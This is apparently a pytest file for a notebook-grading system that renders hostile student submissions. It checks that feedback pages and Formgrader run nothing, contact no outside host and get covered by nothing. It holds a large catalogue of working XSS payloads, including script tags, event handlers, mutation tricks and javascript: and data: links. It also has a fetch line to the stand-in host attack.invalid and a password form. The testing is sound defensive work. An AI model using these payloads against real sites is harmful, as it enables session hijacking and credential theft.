"""Nothing that a submission wrote runs on the pages of feedback, or in Formgrader."""

import base64
import json
import os
from contextlib import contextmanager

import pytest
from grading_helpers import CONFIG, GOOD, WARM, jupyter_server, make_course, nbgrader, submit
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from nbgrader.api import Gradebook
from traitlets.config import Config

from csqm.grading.feedback import safe_html
from csqm.grading.marks import NOTICE
from csqm.text import LANGUAGES

HOST = "https://attack.invalid"
RUN = "ran('{name}');alert(1);fetch('https://attack.invalid/{name}')"
FRAME = "<script>top.ran('frame')</script>"
DATA = base64.b64encode(FRAME.encode()).decode()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{run}"><script>{run}</script></svg>'

# HTML as an output and in a text; {run} is code that tells that it ran.
HTML = {
    "script": "<script>{run}</script>",
    "script-in-pieces": "<scr<script></script>ipt>{run}</scr<script></script>ipt>",
    "script-after-style": "<style><img title='</style><script>{run}</script>'>",
    "script-in-noscript": '<noscript><p title="</noscript><script>{run}</script>">',
    "script-in-comment": "<!--><script>{run}</script>-->",
    "script-in-textarea": "<textarea></textarea><script>{run}</script></textarea>",
    "handler": '<img src="x" onerror="{run}">',
    "handler-without-quotes": "<img/src=x/onerror={run}>",
    "svg": SVG,
    "svg-animation": '<svg><animate onbegin="{run}" attributeName="x" dur="1s"></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "details": '<details open ontoggle="{run}"><summary>more</summary></details>',
    "frame": '<iframe src="javascript:{run}"></iframe><iframe srcdoc="{frame}"></iframe>',
    "frame-of-data": f'<iframe src="data:text/html;base64,{DATA}"></iframe>',
    "object": f'<object data="data:text/html;base64,{DATA}"></object><embed src="{HOST}/x.swf">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/moved">',
    "base": f'<base href="{HOST}/"><link rel="stylesheet" href="{HOST}/style.css">',
    "form": f'<form action="{HOST}/form"><input autofocus onfocus="{{run}}" name="password"></form>',
    "link": '<a href="javascript:{run}" id="bait-1">click</a>',
    "link-in-disguise": '<a href="java&#10;script&colon;{run}" id="bait-2">click</a>',
    "link-to-data": f'<a href="data:text/html;base64,{DATA}">click</a>',
    "link-to-a-file": '<a href="page.html">click</a>',
    "picture-elsewhere": f'<img src="{HOST}/pixel.png"><img srcset="{HOST}/2x.png 2x">',
    "picture-of-the-server": '<img src="/logout"><img src="../../../logout.png">',
    "media": f'<video src="{HOST}/x.mp4" onerror="{{run}}"></video><audio src="{HOST}/x.mp3">',
    "background": f'<p style="background:url({HOST}/b.png);background-color:url({HOST}/c.png)">x',
    "style": f'<style>body {{{{ display: none }}}} @import "{HOST}/import.css";</style>',
    "cover": '<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>',
    "cover-by-class": '<div class="modal-backdrop navbar-fixed-top" id="first-test">cover</div>',
    "data-of-the-page": '<b data-link="&lt;img src=x onerror={run}&gt;" data-toggle="tooltip">b</b>',
}
MARKDOWN = {
    "markdown-link": "[click](javascript:{run})",
    "markdown-picture": f"![x]({HOST}/markdown.png)",
    "markdown-quote": '[click](https://example.org "title\\" onmouseover={run}")',
    "markdown-code": "```{{x onmouseover={run}}}\n<script>{run}</script>\n```",
    "markdown-mermaid": "```mermaid\n<img src=x onerror={run}>\n```",
    "markdown-reference": "[click]\n\n[click]: javascript:{run}",
    "markdown-math": "$<img src=x onerror={run}>$ and $$</p><script>{run}</script>$$",
    "markdown-attachment": "![x](attachment:none.png)",
    "heading": "## <script>{run}</script>",
}
# Outputs of other kinds.
OTHER = {
    "javascript": {"application/javascript": "{run}"},
    "svg-picture": {"image/svg+xml": SVG},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>{run}</script>"}},
    "latex": {"text/latex": "$\\href{{javascript:{run}}}{{click}}$ <script>{run}</script>"},
    "markdown-output": {"text/markdown": "<script>{run}</script> [click](javascript:{run})"},
    "mermaid": {"text/vnd.mermaid": "<img src=x onerror={run}>"},
    "png-with-quotes": {"image/png": 'AA"><script>{run}</script>'},
    "plain": {"text/plain": "<script>{run}</script>"},
    "unknown": {"text/x<script>{run}</script>": "{run}"},
}  # fmt: skip
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGNk+M/AwMDAxAADDAwMAAoIAQP5Hb8PAAAAAElFTkSuQmCC"
TABLE = (
    '<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>'
    '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>score</th>'
    "</tr></thead><tbody><tr><th>北區</th><td>4.25</td></tr></tbody></table></div>"
)  # fmt: skip


def armed(name, text):
    if isinstance(text, dict):
        return {armed(name, key): armed(name, each) for key, each in text.items()}
    return text.format(run=RUN.format(name=name), frame=FRAME)


def attacks():
    """Make the cells of a hostile notebook: their texts, outputs and metadata."""
    cells = []
    for name, text in (HTML | MARKDOWN).items():
        made = armed(name, text)
        cells.append(new_markdown_cell(made))
        cells.append(new_code_cell(made, outputs=[new_output("display_data", {"text/html": made})]))
        cells[-1].outputs.append(new_output("stream", text=made))
        error = {"ename": made, "evalue": made, "traceback": [made, f"\x1b[31m{made}\x1b[0m"]}
        cells[-1].outputs.append(new_output("error", **error))
        cells.append(new_raw_cell(made, metadata={"raw_mimetype": "text/html"}))
    for name, data in OTHER.items():
        cells.append(new_code_cell("1", outputs=[new_output("display_data", armed(name, data))]))
    onerror = "1 onerror=" + RUN.format(name="width").replace(" ", "")
    forged = new_output(
        "display_data", {"image/png": "AAAA"}, metadata={"image/png": {"width": onerror}}
    )
    isolated = new_output(
        "display_data", {"text/html": FRAME}, metadata={"text/html": {"isolated": True}}
    )
    cells.append(new_code_cell("1", outputs=[forged, isolated]))
    cells[-1].metadata = {"magics_language": '"><script>' + RUN.format(name="magic") + "</script>"}
    cells[-1].metadata["tags"] = ['"><script>' + RUN.format(name="tag") + "</script>"]
    return cells


def ordinary():
    """Make the cells that a person wants to see."""
    outputs = [
        new_output("stream", text="\x1b[32mprinted\x1b[0m & <kept>\n"),
        new_output("execute_result", {"text/html": TABLE, "text/plain": "score"}),
        new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}),
        new_output("display_data", {"image/svg+xml": SVG.format(run="")}),
        new_output(
            "error", ename="ValueError", evalue="too small", traceback=["ValueError: too small"]
        ),
    ]
    answer = (
        "## Answer\n\n**Bold**, `x < y`, [a source](https://example.org/a?b=c&d=e), $a < b$\n\n"
        "> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![chart](attachment:c.png)\n\n```python\nx = 1\n```"
    )
    text = new_markdown_cell(answer, attachments={"c.png": {"image/png": PNG}})
    return [text, new_code_cell("print('x < y')", outputs=outputs)]


def seen_ordinary(text, html):
    for shown in (
        "printed & <kept>",
        "4.25",
        "北區",
        "Bold",
        "x < y",
        "a source",
        "$a < b$",
        "quoted",
    ):
        assert shown in text, shown
    assert html.count(PNG) == 2 and "image/svg+xml;base64" in html
    assert 'class="dataframe"' in html and "ValueError" in text and ".dataframe" not in text


@contextmanager
def watched(browser):
    """Yield a page, and lists of what ran on it and which hosts it asked."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.route(lambda url: not url.startswith(HERE), lambda route: route.abort())
    page = context.new_page()
    ran, asked = [], []
    page.expose_function("ran", lambda name: ran.append(name))
    page.on("dialog", lambda dialog: (ran.append("dialog"), dialog.dismiss()))
    page.on("request", lambda request: asked.append(request.url))
    yield page, ran, asked
    context.close()


HERE = ("http://127.", "file:", "data:image/", "about:")
OF_NBGRADER = ("https://cdnjs.cloudflare.com/",)  # its pages load MathJax from there
ACTIVE = "[onerror], [onload], [onclick]:not([onclick^=toggle_name]), [ontoggle], [onfocus], iframe, object, embed, form, base, math"


@contextmanager
def nothing_runs(browser, *allowed):
    """Yield a page, and fail if anything ran on it, asked a host, led away, or covers it."""
    with watched(browser) as (page, ran, asked):
        yield page
        page.wait_for_timeout(500)
        assert ran == []
        assert [url for url in asked if not url.startswith((*HERE, *allowed))] == []
        assert "attack" not in page.url and page.locator(f"body :is({ACTIVE})").count() == 0
        links = page.eval_on_selector_all("a[href]", "all => all.map(each => each.protocol)")
        assert set(links) <= {"http:", "https:", "mailto:", "file:"}
        assert page.locator("[href='page.html'], [src*=logout]").count() == 0
        assert page.get_by_text("cover").evaluate_all(
            "all => all.every(each => getComputedStyle(each).position != 'fixed')"
        )


def exported(exporter, cells, **resources):
    notebook = new_notebook(cells=cells, metadata={"title": "<script>ran('title')</script>"})
    state = {
        "state": {"a": {"state": {"x": f"</script><script>{RUN.format(name='state')}</script>"}}}
    }
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    notebook.metadata["language_info"] = {
        "name": "x",
        "pygments_lexer": '"><script>ran(1)</script>',
    }
    return exporter.from_notebook_node(notebook, resources=resources)[0]


def marked(cells):
    """Let all cells be answers of which some are graded, so that the page shows all of them."""
    for number, cell in enumerate(cells):
        marks = {
            "grade_id": f"cell-{number}",
            "solution": number % 2 == 0,
            "grade": number % 3 == 0,
        }
        marks |= {
            "locked": number % 2 == 1,
            "points": 2,
            "score": 1,
            "comment": "<script>ran(1)</script>",
        }
        cell.metadata["nbgrader"] = marks
    return cells


def test_the_attacks_are_real(browser, tmp_path):
    cells = [
        cell for cell in attacks() if "attachment:" not in cell.source
    ]  # a page cannot be made
    html = exported(HTMLExporter(template_name="classic"), cells)
    (tmp_path / "page.html").write_text(html, encoding="utf-8")
    with watched(browser) as (page, ran, asked):
        page.goto((tmp_path / "page.html").as_uri(), wait_until="commit")
        page.wait_for_timeout(3000)
    assert {"script", "handler", "svg", "details", "frame", "width"} <= set(ran)
    assert len(set(ran)) > 15 and any("attack.invalid" in url for url in asked)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_feedback_of_the_course_runs_nothing(browser, english, monkeypatch, tmp_path, lang):
    monkeypatch.setenv("CSQM_LANG", lang)  # which `configure` changes
    from csqm.course.settings import FeedbackExporter, configure

    config = Config()
    configure(config, lang)
    told = {"notebook": "x", "score": 1, "max_score": 2, "late_penalty": 0, "waiting": set()}
    cells = marked([*ordinary(), *attacks()])
    html = exported(FeedbackExporter(config=config), cells, nbgrader=told)
    (tmp_path / "page.html").write_text(html, encoding="utf-8")
    with nothing_runs(browser, "https://blocked.invalid/") as page:
        blocked = []
        page.on("console", lambda message: blocked.append(message.text))
        page.goto((tmp_path / "page.html").as_uri())
        link = page.locator("a", has_text="a source")
        assert link.get_attribute("href") == "https://example.org/a?b=c&d=e"
        assert page.locator("blockquote", has_text="quoted").count() == 1
        assert page.locator("td", has_text="2").count()
        assert page.locator("img[alt=chart]").evaluate("image => image.naturalWidth") == 2
        assert page.locator("script").count() == 0
        save_picture(page, lang)
        page.evaluate(
            "document.body.append(Object.assign(new Image(), {src: 'https://blocked.invalid/'}))"
        )
        page.wait_for_timeout(200)
        assert "Content Security Policy" in " ".join(blocked)  # what the cleaning might let through


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course of nbgrader alone that uses our grading, with a hostile submission."""
    course = make_course(tmp_path_factory.mktemp("safe") / "course", CONFIG + WARM)
    submit(course, "eve", GOOD)
    (course / "submitted" / "eve" / "small" / "page.html").write_text(FRAME)
    nbgrader(course, "autograde", "small", check=True)
    file = course / "autograded" / "eve" / "small" / "small.ipynb"
    file.chmod(0o644)
    notebook = json.loads(file.read_text(encoding="utf-8"))
    # What cannot come from a run may still come from a forged message of one.
    flagged = new_markdown_cell("for graders alone", metadata={NOTICE: True})
    notebook["cells"] += [dict(cell) for cell in [flagged, *ordinary(), *attacks()]]
    state = f"</script><script>{RUN.format(name='state')}</script>"
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"a": state}}
    file.write_text(json.dumps(notebook), encoding="utf-8")
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        name = "<script>ran('name')</script><img src=x onerror=ran('name')>"
        gradebook.update_or_create_student("eve", first_name=name, last_name=name)
        gradebook.find_comment("middle", "small", "small", "eve").manual_comment = FRAME
        gradebook.db.commit()
    return course


def test_the_feedback_of_nbgrader_runs_nothing(browser, course):
    nbgrader(course, "generate_feedback", "small", check=True)
    file = course / "feedback" / "eve" / "small" / "small.html"
    with nothing_runs(browser, *OF_NBGRADER) as page:
        page.goto(file.as_uri())
        seen_ordinary(page.locator("body").inner_text(), file.read_text(encoding="utf-8"))
        assert page.locator("#first-test").count() == 0
        assert page.get_by_text("for graders alone").count() == 0
        save_picture(page, "nbgrader")


@pytest.fixture
def formgrader(course, tmp_path):
    with jupyter_server(course, tmp_path) as address:
        yield address


def test_formgrader_runs_nothing(browser, course, formgrader):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        submission = gradebook.find_submission_notebook("small", "small", "eve").id
    with nothing_runs(browser, *OF_NBGRADER) as page:
        page.goto(formgrader(f"formgrader/submissions/{submission}/"))
        page.get_by_text("Student's answer").first.wait_for()
        seen_ordinary(page.locator("body").inner_text(), page.content())
        assert page.locator("#first-test").count() == 1  # where the points are entered
        assert page.get_by_text("for graders alone").count() == 1
        save_picture(page, "formgrader")


def save_picture(page, name):
    if folder := os.environ.get("CSQM_PICTURES"):
        page.screenshot(path=f"{folder}/{name}.png", full_page=True)


def test_tables_stay_and_what_is_too_long_is_shown_as_text():
    cleaned = safe_html(TABLE)
    assert cleaned.startswith(
        '<div><table border="1" class="dataframe"><thead><tr style="text-align: right;">'
    )
    assert safe_html("<p>" * 20_000) is None
    assert safe_html("x" * 999_999) is None
    rows = "<tr><th>1</th>" + "<td>4.25</td>" * 20 + "</tr>"
    assert safe_html(f"<table>{rows * 60}</table>").count("<td>") == 1200  # as pandas shows at most
